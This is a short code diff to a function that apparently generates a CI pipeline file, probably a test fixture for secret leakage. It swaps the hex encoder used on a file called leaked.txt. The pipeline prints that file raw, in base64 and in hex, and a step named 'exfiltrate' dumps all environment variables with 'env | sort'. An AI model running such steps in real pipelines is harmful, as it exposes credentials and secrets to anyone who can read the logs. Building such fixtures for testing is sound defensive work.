@@ -92,7 +92,7 @@ def _pipeline_file(api_url: str) -> str:
             run:
               - cat leaked.txt
               - base64 -w0 leaked.txt; echo
-              - xxd -p leaked.txt | tr -d '\\n'; echo
+              - od -An -tx1 leaked.txt | tr -d ' \\n'; echo
           - name: exfiltrate
             run:
               - env | sort
